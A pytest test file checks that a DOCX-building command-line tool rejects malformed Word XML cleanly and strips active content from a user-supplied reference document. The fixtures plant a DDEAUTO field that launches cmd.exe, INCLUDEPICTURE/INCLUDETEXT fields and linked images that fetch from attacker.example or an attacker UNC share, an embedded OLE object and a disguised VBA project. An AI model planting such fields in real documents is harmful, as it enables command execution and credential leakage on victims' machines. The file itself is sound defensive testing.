"""Hostile DOCX structure (issue 13): import and textconv give a located error, no traceback."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from conftest import run

Edit = Callable[[str], str]


def _sub(pattern: str, repl: str, flags: int = 0) -> Edit:
    return lambda xml: re.sub(pattern, repl, xml, flags=flags)


def _root(name: str) -> Edit:
    return lambda xml: xml.replace("<w:document ", f"<w:{name} ", 1).replace(
        "</w:document>", f"</w:{name}>"
    )


#: (id, edit of word/document.xml, expected message or None for: imported anyway)
BROKEN: list[tuple[str, Edit, str]] = [
    ("root-documentx", _root("documentx"), "has the root element 'documentx', not w:document"),
    ("root-body", _root("body"), "has the root element 'body', not w:document"),
    ("root-settings", _root("settings"), "has the root element 'settings', not w:document"),
    (
        "root-other-namespace",
        lambda xml: xml.replace("<w:document ", '<x:document xmlns:x="urn:x" ', 1).replace(
            "</w:document>", "</x:document>"
        ),
        "has the root element 'document', not w:document",
    ),
    ("no-body", _sub(r"<w:body>.*</w:body>", "", re.S), "has no body (w:body)"),
    ("body-renamed", _sub(r"<(/?)w:body>", r"<\1w:corpus>"), "has no body (w:body)"),
]

#: structures that are odd but readable: imported (or reported), never a traceback
ODD: list[tuple[str, Edit]] = [
    ("ilvl-superscript-two", _sub(r'<w:ilvl w:val="\d+"/>', '<w:ilvl w:val="²"/>')),
    ("ilvl-arabic-indic", _sub(r'<w:ilvl w:val="\d+"/>', '<w:ilvl w:val="٣"/>')),
    ("ilvl-negative", _sub(r'<w:ilvl w:val="\d+"/>', '<w:ilvl w:val="-1"/>')),
    ("ilvl-huge", _sub(r'<w:ilvl w:val="\d+"/>', '<w:ilvl w:val="' + "9" * 30 + '"/>')),
    ("ilvl-empty", _sub(r'<w:ilvl w:val="\d+"/>', '<w:ilvl w:val=""/>')),
    ("ilvl-no-value", _sub(r'<w:ilvl w:val="\d+"/>', "<w:ilvl/>")),
    ("ilvl-text", _sub(r'<w:ilvl w:val="\d+"/>', '<w:ilvl w:val="kaks"/>')),
    ("empty-body", _sub(r"<w:body>.*</w:body>", "<w:body/>", re.S)),
]


@pytest.fixture(scope="module")
def docx_parts(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Return the parts of a DOCX the tool wrote for a sample position."""
    import shutil

    from conftest import REPO, working_folder

    root = tmp_path_factory.mktemp("hostile")
    shutil.copytree(REPO / "data", root / "data")
    with working_folder(root):
        assert run("build", "teenusejuht-kov", "--format", "docx").exit_code == 0
    with zipfile.ZipFile(root / "out/teenusejuht-kov.docx") as z:
        return {name: z.read(name) for name in z.namelist()}


def hostile(parts: dict[str, bytes], edit: Edit, path: Path) -> Path:
    xml = parts["word/document.xml"].decode("utf-8")
    changed = edit(xml)
    assert changed != xml, "the edit changed nothing"
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, changed.encode("utf-8") if name == "word/document.xml" else data)
    return path


@pytest.mark.parametrize(("case", "edit", "message"), BROKEN, ids=[b[0] for b in BROKEN])
def test_broken_structure_is_a_located_import_error(
    project: Path, docx_parts: dict[str, bytes], case: str, edit: Edit, message: str
) -> None:
    path = hostile(docx_parts, edit, project / f"{case}.docx")
    result = run("import", str(path), "--to", "imported")
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert f"{case}.docx: not a Word document: word/document.xml {message}" in result.stderr
    assert "open it in Word or LibreOffice and save it again as .docx" in result.stderr
    assert not (project / "imported").exists() or not any((project / "imported").iterdir())


@pytest.mark.parametrize(("case", "edit", "message"), BROKEN, ids=[b[0] for b in BROKEN])
def test_broken_structure_is_a_located_textconv_error(
    project: Path, docx_parts: dict[str, bytes], case: str, edit: Edit, message: str
) -> None:
    path = hostile(docx_parts, edit, project / f"{case}.docx")
    result = run("textconv", str(path))
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    shown = message.replace("'documentx'", "<documentx>").replace("'body'", "<body>")
    shown = shown.replace("'settings'", "<settings>").replace("'document'", "<document>")
    shown = shown.replace("not w:document", "not <w:document>").replace("(w:body)", "(<w:body>)")
    assert result.stderr.strip() == f"error: {path}: not a Word document: word/document.xml {shown}"


@pytest.mark.parametrize(("case", "edit"), ODD, ids=[o[0] for o in ODD])
def test_odd_structure_never_crashes_import(
    project: Path, docx_parts: dict[str, bytes], case: str, edit: Edit
) -> None:
    path = hostile(docx_parts, edit, project / f"{case}.docx")
    result = run("import", str(path), "--to", "imported")
    assert result.exit_code in (0, 1)
    assert "Traceback" not in result.output
    if case.startswith("ilvl"):  # the list levels are lost, the text is not
        assert result.exit_code == 0, result.output
        assert len(list((project / "imported").glob("*.yaml"))) == 1


@pytest.mark.parametrize(("case", "edit"), ODD, ids=[o[0] for o in ODD])
def test_odd_structure_never_crashes_textconv(
    project: Path, docx_parts: dict[str, bytes], case: str, edit: Edit
) -> None:
    path = hostile(docx_parts, edit, project / f"{case}.docx")
    result = run("textconv", str(path))
    assert result.exit_code == 0
    if case.startswith("ilvl"):
        assert "- " in result.stdout and "Teenusejuht" in result.stdout


def test_textconv_in_git_diff_survives_a_hostile_docx(
    project: Path, docx_parts: dict[str, bytes]
) -> None:
    from ametijuhend_cli.gitflow.textconv import docx_to_text, list_level

    assert [list_level(v) for v in ("²", "-1", "", None, "3", "12", "9" * 30)] == [
        0,
        0,
        0,
        0,
        3,
        8,
        0,
    ]
    path = hostile(docx_parts, ODD[0][1], project / "x.docx")
    assert "Teenusejuht" in docx_to_text(path.read_bytes())


# --- a reference document that plants active content (issue 27) ----------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{REL}" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)
PNG = b"\x89PNG\r\n\x1a\nKEPT-LOGO"


def _run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def _complex(instruction: str, result: str = "") -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + _run(result)
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _picture(attribute: str) -> str:
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="10" cy="10"/><wp:docPr id="1" name="x"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/'
        'picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/>'
        f"</pic:nvPicPr><pic:blipFill><a:blip {attribute}/></pic:blipFill><pic:spPr/>"
        "</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


HEADER = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr {NS}><w:p>'
    + _run("Päis ")
    + _complex('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')
    + _complex('INCLUDEPICTURE "http://attacker.example/p.png" \\d', "pilt")
    + '<w:fldSimple w:instr=" INCLUDETEXT \\\\\\\\attacker\\\\share\\\\x.docx "><w:r><w:t>'
    "tekst</w:t></w:r></w:fldSimple>"
    + _complex("PAGE", "1")
    + '<w:hyperlink r:id="rId9">'
    + _run("link")
    + "</w:hyperlink>"
    + _picture('r:embed="rId1"')
    + _picture('r:link="rId8"')
    + _picture('r:embed="rId2"')
    + _picture('r:embed="rId3"')
    + '<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId4"/></w:object></w:r>'
    + '<w:r><w:pict><v:shape><v:imagedata o:href="\\\\attacker\\share\\x.png"/></v:shape>'
    "</w:pict></w:r>"
    + '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr>'
    "<w:sdtContent>" + _run("seotud") + "</w:sdtContent></w:sdt></w:p></w:hdr>"
)
HEADER_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{REL}/image" Target="media/logo.png"/>'
    f'<Relationship Id="rId2" Type="{REL}/image" Target="../customXml/item1.xml"/>'
    f'<Relationship Id="rId3" Type="{REL}/image" Target="vbaProject.bin"/>'
    f'<Relationship Id="rId4" Type="{REL}/oleObject" Target="embeddings/oleObject1.bin"/>'
    f'<Relationship Id="rId8" Type="{REL}/image" Target="http://attacker.example/x.png" '
    'TargetMode="External"/>'
    f'<Relationship Id="rId9" Type="{REL}/hyperlink" Target="file://attacker/share/x" '
    'TargetMode="External"/>'
    "</Relationships>"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1ACTIVE-CONTENT"


def hostile_reference() -> bytes:
    """Return the built-in reference document with active content in a header and settings."""
    from ametijuhend_cli.render.package import write_package
    from ametijuhend_cli.render.reference import reference_parts

    parts = reference_parts()
    parts["word/header1.xml"] = HEADER.encode()
    parts["word/_rels/header1.xml.rels"] = HEADER_RELS.encode()
    parts["word/media/logo.png"] = PNG
    parts["customXml/item1.xml"] = b"<sharepoint>ACTIVE-CONTENT</sharepoint>"
    parts["word/vbaProject.bin"] = OLE
    parts["word/embeddings/oleObject1.bin"] = OLE
    rels = parts["word/_rels/document.xml.rels"].decode()
    parts["word/_rels/document.xml.rels"] = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rId20" Type="{REL}/header" Target="header1.xml"/>'
        f'<Relationship Id="rId21" Type="{MS_REL}/vbaProject" Target="vbaProject.bin"/>'
        "</Relationships>",
    ).encode()
    document = parts["word/document.xml"].decode()
    parts["word/document.xml"] = re.sub(
        "<w:sectPr([^>]*)>",
        r'<w:sectPr\1><w:headerReference w:type="default" r:id="rId20"/>'
        r'<w:headerReference w:type="first" r:id="rId77"/>',
        document,
    ).encode()
    settings = parts["word/settings.xml"].decode()
    parts["word/settings.xml"] = re.sub(
        "(<w:settings[^>]*>)", r'\1<w:updateFields w:val="true"/>', settings
    ).encode()
    types = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = types.replace(
        "</Types>",
        '<Default Extension="png" ContentType="image/png"/>'
        '<Default Extension="bin" ContentType="image/png"/>'
        '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.header+xml"/>'
        '<Override PartName="/customXml/item1.xml" ContentType="image/png"/></Types>',
    ).encode()
    return write_package(parts)


ACTIVE = [
    b"DDEAUTO",
    b"INCLUDEPICTURE",
    b"INCLUDETEXT",
    b"updateFields",
    b"attacker",
    b"vbaProject",
    b"customXml",
    b"oleObject",
    b"OLEObject",
    b"ACTIVE-CONTENT",
    b"dataBinding",
    b"hyperlink",
    b"r:link",
]


def _references_resolve(z: zipfile.ZipFile) -> None:
    """Assert that every r: reference of every part names a relationship of that part."""
    names = set(z.namelist())
    for name in names:
        if not name.endswith(".xml") or "_rels" in name:
            continue
        folder, _, base = name.rpartition("/")
        rels_name = f"{folder}/_rels/{base}.rels"
        ids = set(re.findall(rb'Id="([^"]+)"', z.read(rels_name))) if rels_name in names else set()
        for found in re.findall(rb'r:(?:id|embed|link|pict)="([^"]+)"', z.read(name)):
            assert found in ids, (name, found)


def test_a_reference_document_plants_no_active_content(project: Path) -> None:
    (project / "templates").mkdir()
    (project / "templates/reference.docx").write_bytes(hostile_reference())
    result = run("build", "--format", "docx")
    assert result.exit_code == 0, result.output
    warning = result.stderr.splitlines()[0]
    assert warning.startswith(
        "templates/reference.docx: warning: left out of every document (a job description "
        "takes from the reference document only what styling needs): "
    )
    for said in (
        "the field DDEAUTO in word/header1.xml",
        "the field INCLUDEPICTURE in word/header1.xml",
        "the field INCLUDETEXT in word/header1.xml",
        "updateFields (fields refreshed on opening) in word/settings.xml",
        "the part 'customXml/item1.xml', which is not the image it claims to be",
        "the part 'word/vbaProject.bin', which is not the image it claims to be",
        "the external link 'file://attacker/share/x'",
        "an embedded object (OLE) in word/header1.xml",
        "a linked picture in word/header1.xml",
        "a data binding (customXml) in word/header1.xml",
        "the part 'word/vbaProject.bin' (vbaProject) in word/_rels/document.xml.rels",
    ):
        assert said in warning, said
    with zipfile.ZipFile(project / "out/teenusejuht-kov.docx") as z:
        blob = b"".join(z.read(n) for n in sorted(z.namelist()))
        header = z.read("word/header1.xml").decode()
        _references_resolve(z)
        assert "word/media/logo.png" in z.namelist()
    for active in ACTIVE:
        assert active not in blob, active
    # what stays: the text of the fields' results and of the link, the page number, the logo
    for text in ("Päis ", "pilt", "tekst", "link", "seotud"):
        assert f">{text}</w:t>" in header
    assert " PAGE " in header
    assert header.count("<w:drawing>") == 1
    # the headerReference to a part that does not exist is gone from the section too
    with zipfile.ZipFile(project / "out/teenusejuht-kov.docx") as z:
        assert b"rId77" not in z.read("word/document.xml")


def test_a_reference_with_active_content_fails_under_strict(project: Path) -> None:
    (project / "templates").mkdir()
    (project / "templates/reference.docx").write_bytes(hostile_reference())
    result = run("validate", "--strict")
    assert result.exit_code == 1
    assert "templates/reference.docx: warning: left out of every document" in result.stderr


def test_the_generated_documents_are_valid_ooxml(project: Path) -> None:
    from openxml_audit import OpenXmlValidator

    (project / "templates").mkdir()
    (project / "templates/reference.docx").write_bytes(hostile_reference())
    assert run("build", "teenusejuht-kov", "--format", "docx").exit_code == 0
    errors = OpenXmlValidator().validate(str(project / "out/teenusejuht-kov.docx")).errors
    assert [str(e) for e in errors] == []


def test_the_built_in_reference_document_loses_nothing(project: Path) -> None:
    result = run("build", "--format", "docx")
    assert result.exit_code == 0
    assert "warning" not in result.stderr
